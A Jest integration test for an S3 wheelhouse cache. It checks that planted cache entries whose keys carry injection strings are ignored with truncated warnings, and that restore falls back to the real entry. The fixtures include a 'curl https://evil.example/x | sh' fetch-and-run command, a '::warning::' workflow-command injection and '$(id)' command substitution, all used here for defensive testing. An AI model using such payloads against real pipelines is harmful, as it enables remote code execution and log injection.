/**
 * Entries found by prefix in a store others can write (review 2 of session 12, #6), against the
 * real gateway: the key of such an entry becomes the `cache-matched-key` output, a log line and the
 * job summary, so it is taken only when its object name encodes a key wheelhouse makes and its
 * document holds that same key. Planted entries are ignored with warnings that quote (and cut
 * short) what they hold, and the restore falls through to the next prefix's real entry.
 */
import { afterAll, beforeAll, expect, it } from '@jest/globals';
import { createHash, randomBytes } from 'node:crypto';
import { mkdir, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { S3Store } from '../../../src/cache/s3-store.js';
import { writeManifest } from '../../../src/cache/wheelhouse-manifest.js';
import type { Logger } from '../../../src/util/logger.js';
import { describeWhenAvailable } from '../../helpers/optional-suite.js';
import { createTestBucket, s3GatewayMissing, testS3Store } from '../../helpers/s3-gateway.js';
import { recorder } from '../../helpers/line-recorder.js';

const sha = (b: Buffer): string => createHash('sha256').update(b).digest('hex');
const WHEEL = 'good-1.0-py3-none-any.whl';

describeWhenAvailable('S3 store: keys of entries found by prefix (real S3 gateway)', s3GatewayMissing, () => {
  let root: string;
  const bucket = `wh-keys-${randomBytes(4).toString('hex')}`;
  const store = (logger: Logger): S3Store =>
    testS3Store(bucket, {
      prefix: 'fleet',
      logger,
      retries: 1,
      backoffBaseMs: 10,
    });

  beforeAll(async () => {
    root = await mkdtemp(join(tmpdir(), 'wh-s3-keys-'));
    await createTestBucket(bucket);
  });
  afterAll(async () => {
    await rm(root, { recursive: true, force: true });
  });

  it('ignores planted entries with a warning each and restores the real one', async () => {
    // Restore prefixes in turn: `planted` (only planted entries start with it), then `real`.
    const planted = 'wheelhouse-v1-linux-x64-cp312_team-';
    const real = 'wheelhouse-v1-linux-x64-cp312-';
    const good = real + '1'.repeat(32);
    const src = join(root, 'src');
    await mkdir(src);
    const wheel = randomBytes(1024);
    await writeFile(join(src, WHEEL), wheel);
    await writeManifest(src, { version: 1, files: { [WHEEL]: { sha256: sha(wheel), size: wheel.length } } });
    const saver = store(recorder());
    expect(await saver.save([src], good)).toEqual({ saved: true });

    const evil = `${planted}x\` [click](https://evil.example) "; curl https://evil.example/x | sh; echo "\n::warning::hi${'!'.repeat(200)}`;
    const plant = async (nameKey: string, key: string): Promise<void> => {
      const data = Buffer.from(JSON.stringify({ version: 1, key, createdAt: Date.now(), paths: [{}] }));
      await saver.client.put(saver.entryKey(nameKey), { kind: 'buffer', data }, sha(data), false);
    };
    await plant(evil, evil); // its name encodes its key, which is no wheelhouse key
    await plant(planted + '2'.repeat(32), `${planted}x\`$(id)\``); // a good name, another key inside
    await plant(planted + '3'.repeat(32), planted + '4'.repeat(32)); // a wheelhouse key, not its name's
    await saver.close();

    const log = recorder();
    const dst = join(root, 'dst');
    await mkdir(dst);
    const reader = store(log);
    expect(await reader.restore([dst], real + '0'.repeat(32), [planted, real])).toEqual({
      matchedKey: good,
      exact: false,
    });
    await reader.close();
    expect(await readFile(join(dst, WHEEL))).toEqual(wheel);

    const warnings = log.lines.filter((l) => l.startsWith('warn '));
    expect(warnings).toHaveLength(3);
    expect(warnings[0]).toContain(
      `ignored 1 object(s) under s3://${bucket}/fleet/entries/${planted} whose names are not entries of wheelhouse cache keys`,
    );
    const mismatched = warnings.filter((w) => w.includes('not the one its name encodes'));
    expect(mismatched).toHaveLength(2);
    expect(mismatched.join('\n')).toContain(`holds the key ${JSON.stringify(`${planted}x\`$(id)\``)}`);
    expect(mismatched.join('\n')).toContain(`holds the key ${JSON.stringify(planted + '4'.repeat(32))}`);
    for (const w of warnings) {
      expect(w).not.toContain('\n');
      expect(w.length).toBeLessThan(400);
    }
    expect(log.lines.join('\n')).not.toContain('evil.example/x | sh');
  });
});
